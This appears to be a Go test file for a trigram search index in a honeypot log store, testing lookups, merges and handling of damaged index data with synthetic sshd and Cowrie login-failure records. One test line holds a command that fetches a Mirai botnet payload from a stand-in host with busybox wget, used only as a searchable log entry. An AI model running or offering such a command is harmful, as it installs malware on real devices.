package trigram_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/repo"
	"decnet/repo/sqlite/trigram"
)

// blocksOf looks ranges up as a search does: what all of them have.
func blocksOf(t *testing.T, chunks []trigram.Chunk, blocks int, want []trigram.Range) trigram.Set {
	t.Helper()
	all := trigram.NewSet(blocks)
	all.Fill(blocks)
	for _, r := range want {
		found := trigram.NewSet(blocks)
		require.NoError(t, trigram.Find(chunks, r, blocks, found))
		all.And(found)
	}
	return all
}

// texts are lines of an alphabet that is small, so that they share much, with bytes
// that are no letters and no UTF-8.
func texts(r *rand.Rand, n int) []string {
	const alphabet = "aAbBcC019 .-\"\\\x00\xff\xc3"
	list := make([]string, n)
	for i := range list {
		var b strings.Builder
		for range r.IntN(12) {
			b.WriteByte(alphabet[r.IntN(len(alphabet))])
		}
		list[i] = b.String()
	}
	return list
}

func build(lines []string, blocks int) []trigram.Chunk {
	b := trigram.NewBuilder()
	for block := range blocks {
		b.Begin(block)
		for row := range trigram.BlockRows {
			if i := block*trigram.BlockRows + row; i < len(lines) {
				b.Text(lines[i])
				b.Pair("line", lines[i])
			}
		}
	}
	return b.Chunks(blocks)
}

func TestFind_MissesNothing(t *testing.T) {
	t.Parallel()
	for seed := range uint64(20) {
		r := rand.New(rand.NewPCG(seed, 1))
		const blocks = 64
		lines := texts(r, blocks*trigram.BlockRows)
		chunks := build(lines, blocks)
		for _, line := range lines[:200] {
			from := r.IntN(len(line) + 1)
			needle := line[from : from+r.IntN(len(line)-from+1)]
			found := blocksOf(t, chunks, blocks, trigram.Text(needle))
			pairs := blocksOf(t, chunks, blocks, []trigram.Range{trigram.Pair("line", line)})
			for i, other := range lines {
				if repo.ContainsFold(other, needle) {
					require.True(t, found.Has(i/trigram.BlockRows), "seed %d: %q in %q", seed, needle, other)
				}
				if other == line {
					require.True(t, pairs.Has(i/trigram.BlockRows))
				}
			}
		}
	}
}

func TestFind_LeavesOut(t *testing.T) {
	t.Parallel()
	lines := make([]string, 4096)
	for i := range lines {
		lines[i] = fmt.Sprintf("2025-01-01T00:00:%02d sshd: Failed password for root from 10.0.0.%d", i%60, i%250)
	}
	lines[1000] = "busybox wget http://x.example/mirai.zq"
	lines[2000] = "keyboard"
	chunks := build(lines, 256)
	assert.Equal(t, 1, blocksOf(t, chunks, 256, trigram.Text("MIRAI")).Len(), "of 256 blocks, the one that has it")
	assert.Zero(t, blocksOf(t, chunks, 256, trigram.Text("nowhere")).Len())
	assert.Zero(t, blocksOf(t, chunks, 256, []trigram.Range{trigram.Pair("line", "nothing")}).Len())
	assert.Equal(t, 256, blocksOf(t, chunks, 256, trigram.Text("failed password")).Len())
	assert.Equal(t, 1, blocksOf(t, chunks, 256, trigram.Text("zq")).Len(), "two bytes at the end of a text")
	assert.Equal(t, 2, blocksOf(t, chunks, 256, trigram.Text("yb")).Len(), "two bytes inside, of both lines")
	assert.Empty(t, trigram.Text("x"), "one byte chooses nothing")
}

func TestMerge(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(7, 7))
	const parts, blocks = 4, 64
	lines := texts(r, parts*blocks*trigram.BlockRows)
	var segments [][]trigram.Chunk
	for p := range parts {
		segments = append(segments, build(lines[p*blocks*trigram.BlockRows:(p+1)*blocks*trigram.BlockRows], blocks))
	}
	segments[2] = nil // all its rows are gone
	clear(lines[2*blocks*trigram.BlockRows : 3*blocks*trigram.BlockRows])
	merged, err := trigram.Merge(segments, blocks)
	require.NoError(t, err)
	once := build(lines, parts*blocks)
	for _, needle := range append(lines[:300], "aa", "no", "xyz") {
		assert.Equal(t, blocksOf(t, once, parts*blocks, trigram.Text(needle)), blocksOf(t, merged, parts*blocks, trigram.Text(needle)), "%q", needle)
	}
}

func TestFind_Damaged(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(3, 3))
	chunks := build(texts(r, 64*trigram.BlockRows), 64)
	refused := 0
	for range 2000 {
		data := append([]byte(nil), chunks[0].Data...)
		for range 1 + r.IntN(4) {
			data[r.IntN(len(data))] = byte(r.Uint32())
		}
		damaged := []trigram.Chunk{{First: chunks[0].First, Data: data[:r.IntN(len(data)+1)]}}
		set := trigram.NewSet(64)
		if err := trigram.Find(damaged, trigram.Range{Last: trigram.Terms}, 64, set); err != nil {
			require.ErrorIs(t, err, trigram.ErrDamaged)
			refused++
		}
	}
	assert.Positive(t, refused)
}

func TestSet_Runs(t *testing.T) {
	t.Parallel()
	s := trigram.NewSet(128)
	for _, b := range []int{0, 1, 63, 64, 127} {
		s.Add(b)
	}
	var runs [][2]int
	for first, end := range s.Runs {
		runs = append(runs, [2]int{first, end})
	}
	assert.Equal(t, [][2]int{{0, 2}, {63, 65}, {127, 128}}, runs)
	assert.Equal(t, 5, s.Len())
}

// BenchmarkBuilder is the cost of a row of the length that real ones have.
func BenchmarkBuilder(b *testing.B) {
	r := rand.New(rand.NewPCG(1, 1))
	lines := make([]string, 4096)
	for i := range lines {
		lines[i] = fmt.Sprintf(`{"eventid":"cowrie.login.failed","username":"root","password":"%x","message":"login attempt [root/%x] failed","sensor":"trap-01","timestamp":"2025-10-24T%02d:%02d:%02d.%06dZ","src_ip":"%d.%d.%d.%d","session":"%012x"}`,
			r.Uint32(), r.Uint32(), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1e6), r.IntN(255), r.IntN(255), r.IntN(255), r.IntN(255), r.Uint64()>>16)
	}
	builder := trigram.NewBuilder()
	var bytes int
	for b.Loop() {
		for i, line := range lines {
			if i%trigram.BlockRows == 0 {
				builder.Begin(i / trigram.BlockRows)
			}
			builder.Text(line)
		}
		bytes = 0
		for _, c := range builder.Chunks(256) {
			bytes += len(c.Data)
		}
	}
	b.ReportMetric(float64(bytes)/float64(len(lines)), "B/row")
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(lines)), "ns/row")
}
